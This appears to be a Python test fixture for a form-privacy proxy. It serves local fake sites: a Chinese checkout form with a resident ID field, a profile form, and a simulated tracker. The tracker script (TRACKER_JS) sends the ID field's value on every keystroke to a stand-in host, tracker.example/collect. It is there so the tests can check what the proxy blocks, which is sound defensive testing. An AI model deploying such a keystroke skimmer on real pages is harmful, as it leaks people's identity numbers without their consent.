"""Local test websites for the browser end-to-end tests, served by one HTTP server on 127.0.0.1.

The browser reaches them through the formshield proxy under their own names; the test routing
addon (``route_to_upstream.py``) connects every name to this server, which picks the site by the
``Host`` header:

``shop.test`` (and any other ``*.test`` name: tests that change a site's policy use a site of
their own, so that they do not depend on each other)
    ``/checkout``: a checkout form (name, resident ID ``idNo`` labelled 身份证号, mobile) that
    posts to ``/order`` on its own site, and embeds the tracker's script.
    ``/profile``: a form whose script posts a phone number to ``/profile/save`` with ``fetch``
    and shows the response status in ``#result`` (the tests put an ``ask`` rule on that path).
``tracker.example``
    ``/t.js``: a "session replay" script that sends the ID field's value to
    ``http://tracker.example/collect`` with ``navigator.sendBeacon`` on every keystroke, the way
    such scripts leak what people type before they decide to submit.
    ``/collect``: accepts and records whatever arrives.

Every request is recorded (method, host, path, headers, body), so tests assert on what really
got through the proxy. Pages never echo submitted values back.
"""

from __future__ import annotations

import threading
from collections.abc import Callable
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

SHOP = "shop.test"
TRACKER = "tracker.example"

_STYLE = """
  body { font-family: system-ui, "Noto Sans CJK SC", sans-serif; margin: 0; background: #fafafa; }
  header { background: #263238; color: #fff; padding: 14px 20px; font-size: 18px; }
  main { padding: 16px 20px; max-width: 520px; }
  label { display: block; margin: 12px 0 4px; }
  input { width: 100%; padding: 6px; box-sizing: border-box; font-size: 15px; }
  button { margin-top: 16px; padding: 8px 18px; font-size: 15px; }
"""

CHECKOUT_HTML = f"""<!doctype html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>结算 - __HOST__</title>
<style>{_STYLE}</style>
<script src="http://{TRACKER}/t.js"></script>
</head>
<body>
<header>__HOST__ · 结算 Checkout</header>
<main>
<form id="checkout" action="/order" method="post">
  <label for="name">姓名</label>
  <input id="name" name="name" autocomplete="name">
  <label for="idNo">身份证号</label>
  <input id="idNo" name="idNo" autocomplete="off">
  <label>手机号 <input id="mobile" name="mobile" type="tel"></label>
  <button id="submit" type="submit">提交订单</button>
</form>
<p id="filler">送货上门,七天无理由退货。</p>
</main>
</body>
</html>
"""

PROFILE_HTML = """<!doctype html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>个人资料 - __HOST__</title>
<style>__STYLE__</style>
</head>
<body>
<header>__HOST__ · 个人资料 Profile</header>
<main>
<form id="profile" action="/profile/save" method="post">
  <label for="nick">昵称</label>
  <input id="nick" name="nick">
  <label for="phone">手机号</label>
  <input id="phone" name="phone" type="tel">
  <button id="save" type="submit">保存</button>
</form>
<p id="result"></p>
</main>
<script>
  // Saves with fetch, as most sites do today, and says how it went.
  document.getElementById("profile").addEventListener("submit", function (event) {
    event.preventDefault();
    var result = document.getElementById("result");
    result.textContent = "saving";
    var body = new URLSearchParams(new FormData(event.target));
    fetch("/profile/save", { method: "POST", body: body })
      .then(function (response) { result.textContent = "status " + response.status; })
      .catch(function () { result.textContent = "failed"; });
  });
</script>
</body>
</html>
""".replace("__STYLE__", _STYLE)

DONE_HTML = """<!doctype html>
<html lang="zh-CN">
<head><meta charset="utf-8"><title>{title}</title><style>{style}</style></head>
<body><header>__HOST__</header><main><h1 id="done">{title}</h1></main></body>
</html>
"""

# The tracker: sends the ID field on every keystroke, as session-replay and "form analytics"
# scripts do. sendBeacon with URLSearchParams posts application/x-www-form-urlencoded.
TRACKER_JS = f"""(function () {{
  function send(input) {{
    var body = new URLSearchParams();
    body.set(input.name, input.value);
    body.set("ev", "input");
    body.set("site", location.hostname);
    body.set("page", location.pathname);
    navigator.sendBeacon("http://{TRACKER}/collect", body);
  }}
  document.addEventListener("input", function (event) {{
    var target = event.target;
    if (target && target.name === "idNo") {{
      send(target);
    }}
  }}, true);
}})();
"""


@dataclass(frozen=True)
class Hit:
    """One request the sites server received."""

    method: str
    host: str
    path: str
    headers: dict[str, str]
    body: bytes

    def form(self) -> dict[str, list[str]]:
        """The body as an urlencoded form (empty when it is not one)."""
        try:
            return parse_qs(self.body.decode("utf-8"), keep_blank_values=True)
        except UnicodeDecodeError:
            return {}


Route = Callable[[Hit], tuple[int, str, bytes]]


def _page(html: str, hit: Hit) -> tuple[int, str, bytes]:
    """An HTML page naming the host it was asked for (``__HOST__``)."""
    return 200, "text/html; charset=utf-8", html.replace("__HOST__", hit.host).encode("utf-8")


def _done(title: str, hit: Hit) -> tuple[int, str, bytes]:
    return _page(DONE_HTML.format(title=title, style=_STYLE), hit)


ROUTES: dict[tuple[str, str, str], Route] = {
    ("GET", "shop", "/"): lambda hit: _page(CHECKOUT_HTML, hit),
    ("GET", "shop", "/checkout"): lambda hit: _page(CHECKOUT_HTML, hit),
    ("POST", "shop", "/order"): lambda hit: _done("订单已提交 Order received", hit),
    ("GET", "shop", "/profile"): lambda hit: _page(PROFILE_HTML, hit),
    ("POST", "shop", "/profile/save"): lambda hit: _done("资料已保存 Profile saved", hit),
    ("GET", "tracker", "/t.js"): lambda hit: (
        200,
        "application/javascript; charset=utf-8",
        TRACKER_JS.encode(),
    ),
    ("POST", "tracker", "/collect"): lambda hit: (204, "text/plain", b""),
}


def site_kind(host: str) -> str:
    """Which site a Host serves: "tracker", "shop" (any *.test name) or "" (none: 404)."""
    if host == TRACKER:
        return "tracker"
    return "shop" if host.endswith(".test") else ""


class Sites:
    """The HTTP server behind ``shop.test`` and ``tracker.example`` (see the module docstring)."""

    def __init__(self) -> None:
        self._hits: list[Hit] = []
        self._lock = threading.Lock()
        sites = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _handle(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                host = self.headers.get("host", "").rsplit(":", 1)[0].lower()
                hit = Hit(
                    self.command,
                    host,
                    self.path,
                    {k.lower(): v for k, v in self.headers.items()},
                    body,
                )
                with sites._lock:
                    sites._hits.append(hit)
                route = ROUTES.get((self.command, site_kind(host), urlsplit(self.path).path))
                status, ctype, payload = route(hit) if route else (404, "text/plain", b"not found")
                self.send_response(status)
                self.send_header("content-type", ctype)
                self.send_header("content-length", str(len(payload)))
                self.send_header("cache-control", "no-store")
                # One request per connection. The test router rewrites each server address in
                # mitmproxy's server_connect hook, so mitmproxy never finds a kept-alive
                # connection to reuse, opens a new one per request, and stops at five open
                # connections per client connection (proxy.server: max_conns); the sixth
                # request on a browser's kept-alive proxy connection would wait forever.
                self.send_header("connection", "close")
                self.close_connection = True
                self.end_headers()
                self.wfile.write(payload)

            do_GET = do_POST = _handle

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self.server.server_address[1]
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Sites:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def hits(self, method: str | None = None, host: str | None = None, path: str | None = None
             ) -> list[Hit]:  # fmt: skip
        """Requests received so far, filtered by method, host and path (without the query)."""
        with self._lock:
            hits = list(self._hits)
        return [
            h
            for h in hits
            if (method is None or h.method == method)
            and (host is None or h.host == host)
            and (path is None or urlsplit(h.path).path == path)
        ]
